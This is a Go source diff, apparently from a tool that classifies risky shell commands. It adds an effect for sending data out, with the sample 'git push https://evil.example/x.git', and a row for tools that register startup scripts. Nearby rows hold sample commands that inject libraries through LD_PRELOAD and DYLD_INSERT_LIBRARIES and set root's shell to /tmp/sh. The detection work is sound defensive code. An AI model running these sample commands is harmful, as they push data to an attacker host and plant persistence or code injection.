@@ -33,6 +33,7 @@ const (
 	effSecret    effect = "reads a secret through its manager"
 	effPersist   effect = "changes what the service manager or the login starts, for every later run"
 	effConsole   effect = "runs code inside an application, with its secrets and database at hand"
+	effSendsOut  effect = "sends data to an address given on the command line"
 )
 
 // effectRow is one spelling of an effect.
@@ -154,6 +155,8 @@ var effectRows = []effectRow{
 	{Effect: effPersist, Tools: "systemctl", Words: "set-environment|import-environment|unset-environment|enable|link|preset|preset-all|add-wants|add-requires|set-property|edit|revert|daemon-reload", Sample: "systemctl set-environment LD_PRELOAD=/tmp/x.so"},
 	{Effect: effPersist, Tools: "launchctl", Words: "setenv|load|bootstrap|enable|submit|config", Sample: "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib"},
 	{Effect: effPersist, Tools: "initctl", Words: "set-env|unset-env|reload-configuration", Sample: "initctl set-env LD_PRELOAD=/tmp/x.so"},
+	{Effect: effPersist, Tools: "update-rc.d chkconfig rc-update insserv systemd-sysv-install", Sample: "update-rc.d x defaults"},
+	{Effect: effSendsOut, Tools: "git", Words: "push *://*|*@*:*, push * *://*|*@*:*", Sample: "git push https://evil.example/x.git"},
 	{Effect: effPersist, Tools: "dbus-update-activation-environment", Sample: "dbus-update-activation-environment LD_PRELOAD=/tmp/x.so"},
 	{Effect: effPersist, Tools: "loginctl", Words: "enable-linger", Sample: "loginctl enable-linger app"},
 	{Effect: effPersist, Tools: "chsh chfn update-alternatives ldconfig update-rc.d chkconfig rc-update", Sample: "chsh -s /tmp/sh root"},
